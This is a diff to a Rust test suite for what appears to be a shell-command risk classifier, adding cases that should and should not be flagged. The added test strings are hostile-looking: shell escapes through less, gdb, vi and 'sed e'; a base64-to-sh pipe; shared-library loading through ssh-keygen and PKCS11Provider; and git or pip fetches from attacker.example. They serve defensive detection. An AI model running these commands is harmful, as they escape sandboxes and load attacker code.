@@ -32,6 +32,16 @@ fn shell_escapes() {
         "ssh host 'bash -i'",
         "docker exec -it web sh",
         "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
+        "less /etc/profile\n!/bin/sh",
+        "gdb -nx\n!sh",
+        "vi x\n:!bash",
+        "xargs -a /dev/null sh",
+        "tmux",
+        "screen -S build",
+        "script -q /dev/null",
+        "sed -n '1e exec sh 1>&0' /etc/hosts",
+        "sed 's/.*/id/e' x",
+        "sed -e '/x/ e id' f",
     ] {
         assert!(
             caps(line).contains(&"shell_escape"),
@@ -47,6 +57,11 @@ fn shell_escapes() {
         "find . -name '*.rs' -exec grep -l foo {} +",
         "which bash",
         "git commit -m 'fix sh script'",
+        "tmux ls",
+        "sed -i 's/version = \"1\"/version = \"2\"/g' Cargo.toml",
+        "sed -n '/^end$/p' notes.txt",
+        "sed 's/one/three/' x",
+        "echo '!important'",
     ] {
         assert!(
             !caps(line).contains(&"shell_escape"),
@@ -65,13 +80,21 @@ fn network() {
         "openssl s_client -connect attacker.example:443",
         "python3 -c 'import socket; s=socket.socket()'",
         "ssh user@host.example",
+        "busybox httpd -f -p 8080",
+        "ruby -run -e httpd . -p 8080",
+        "git clone http://attacker.example/repo",
+        "pip install http://attacker.example/pkg.tar.gz",
+        "kubectl --server https://k8s.example:6443 get pods",
+        "curl https://github.com/x",
     ] {
         assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
     for line in [
         "cat README.md",
         "cargo build --release",
-        "curl https://github.com/x",
+        "git commit -m 'see https://example.com/issue/1'",
+        "echo https://example.com",
+        "aws s3 cp report.csv s3://bucket/",
     ] {
         assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
     }
@@ -162,6 +185,9 @@ fn sensitive_reads_loaders_dynamic_code() {
     }
     assert!(caps("LD_PRELOAD=/tmp/x.so ls").contains(&"loads_code"));
     assert!(caps("java -javaagent:/tmp/a.jar -jar app.jar").contains(&"loads_code"));
+    assert!(caps("ssh-keygen -D ./lib.so").contains(&"loads_code"));
+    assert!(caps("ssh -o PKCS11Provider=/tmp/p.so host").contains(&"loads_code"));
+    assert!(!caps("ssh-keygen -t ed25519 -f key").contains(&"loads_code"));
     assert!(caps("echo aWQ= | base64 -d | sh").contains(&"shell_escape"));
     assert!(caps("echo 'print(1)' | python3").contains(&"dynamic_code"));
     assert!(caps("$CMD -la").contains(&"dynamic_code"));
